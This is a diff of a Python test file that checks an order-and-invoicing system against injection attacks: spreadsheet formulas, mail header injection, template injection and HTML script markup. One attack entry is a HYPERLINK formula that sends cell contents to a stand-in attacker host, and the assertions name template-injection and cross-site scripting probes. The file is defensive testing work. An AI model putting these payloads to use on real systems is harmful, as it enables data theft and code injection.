@@ -3,11 +3,8 @@
 from __future__ import annotations
 
 import csv
-import email
-import email.policy
 import itertools
 import zipfile
-from collections.abc import Iterator
 from email.message import EmailMessage
 from pathlib import Path
 
@@ -16,7 +13,7 @@ import pytest
 
 from tests.acceptance.desk import onsite
 from tests.rules.build import CLEAN
-from tests.sync.post_office import NOW, PostOffice, furnished, upto
+from tests.sync.post_office import NOW, PostOffice, furnished, opened, upto
 
 ATTACKS = {
     "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -72,33 +69,31 @@ def attacked(tmp_path_factory: pytest.TempPathFactory) -> PostOffice:
     return post
 
 
-def mails(post: PostOffice) -> Iterator[EmailMessage]:
-    for path in (post.folder / "outbox").rglob("*.eml"):
-        message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
-        assert isinstance(message, EmailMessage)
-        yield message
+@pytest.fixture(scope="module")
+def mails(attacked: PostOffice) -> list[EmailMessage]:
+    return [opened(path) for path in (attacked.folder / "outbox").rglob("*.eml")]
 
 
 def workbooks(post: PostOffice) -> list[Path]:
     return [post.path, *(post.folder / "invoices").iterdir()]
 
 
-def test_each_order_came_in_and_was_invoiced(attacked: PostOffice) -> None:
+def test_each_order_came_in_and_was_invoiced(attacked: PostOffice, mails: list[EmailMessage]) -> None:
     rows = attacked.rows("Orders")
     assert [row["Status"] for row in rows].count("Invoiced") == len(ATTACKS) == len(attacked.files("invoices"))
-    assert len(rows) == 2 * len(ATTACKS) <= len(list(mails(attacked)))
+    assert len(rows) == 2 * len(ATTACKS) <= len(mails)
 
 
 @pytest.mark.scenario(20)
 def test_no_text_is_a_formula(attacked: PostOffice) -> None:
     """Neither for a spreadsheet program that opens the file, nor after a click into the cell and Enter."""
-    for path in workbooks(attacked):
-        for sheet in openpyxl.load_workbook(path):
-            for line in sheet.iter_rows():
-                for cell in line:
-                    assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate)
-                    if sheet.title != "Engineers" and str(cell.value)[:1] in ("=", "+", "@"):  # typed by the test
-                        assert cell.quotePrefix or cell.number_format == "@", (sheet.title, cell.coordinate)
+    books = [(path.name, openpyxl.load_workbook(path)) for path in workbooks(attacked)]
+    cells = [(name, cell) for name, book in books for sheet in book for line in sheet.iter_rows() for cell in line]
+    assert [(name, cell) for name, cell in cells if cell.data_type == "f"] == []
+    ours = [(name, cell) for name, cell in cells if cell.parent.title != "Engineers"]  # those the test typed itself
+    alive = [(name, cell) for name, cell in ours if str(cell.value)[:1] in ("=", "+", "@")]
+    assert len(alive) > 100
+    assert [found for found in alive if not found[1].quotePrefix and found[1].number_format != "@"] == []
 
 
 @pytest.mark.scenario(20, 24)
@@ -124,30 +119,29 @@ def test_every_file_is_where_it_belongs(attacked: PostOffice) -> None:
 
 
 @pytest.mark.scenario(24)
-def test_no_mail_has_a_header_of_a_strangers(attacked: PostOffice) -> None:
-    for mail in mails(attacked):
+def test_no_mail_has_a_header_of_a_strangers(mails: list[EmailMessage]) -> None:
+    for mail in mails:
         assert {name.lower() for name in mail} <= HEADERS, dict(mail)
         assert len(mail["To"].addresses) == 1 and "evil" not in mail["To"].addresses[0].addr_spec
         assert "\n" not in mail["Subject"] and "\r" not in mail["Subject"]
 
 
 @pytest.mark.scenario(24)
-def test_templates_are_literal(attacked: PostOffice) -> None:
-    parts = (part for mail in mails(attacked) for part in mail.walk())
+def test_templates_are_literal(mails: list[EmailMessage]) -> None:
+    parts = (part for mail in mails for part in mail.walk())
     whole = "\n".join(str(part.get_content()) for part in parts if part.get_content_maintype() == "text")
     assert "7*191" in whole and str(7 * 191) not in whole and "subclasses" in whole
     assert "<class" not in whole and "root:" not in whole
 
 
-def test_markup_is_text(attacked: PostOffice) -> None:
-    for mail in mails(attacked):
-        for part in mail.walk():
-            if part.get_content_type() == "text/html":
-                assert "<script" not in part.get_content() and "<img" not in part.get_content()
+def test_markup_is_text(mails: list[EmailMessage]) -> None:
+    parts = [part for mail in mails for part in mail.walk() if part.get_content_type() == "text/html"]
+    assert any("alert(1)" in part.get_content() for part in parts)
+    assert [part for part in parts if "<script" in part.get_content() or "<img" in part.get_content()] == []
 
 
-def test_a_calendar_has_one_entry(attacked: PostOffice) -> None:
-    entries = [part for mail in mails(attacked) for part in mail.walk() if part.get_content_type() == "text/calendar"]
+def test_a_calendar_has_one_entry(mails: list[EmailMessage]) -> None:
+    entries = [part for mail in mails for part in mail.walk() if part.get_content_type() == "text/calendar"]
     assert entries
     for entry in entries:
         lines = str(entry.get_content()).splitlines()
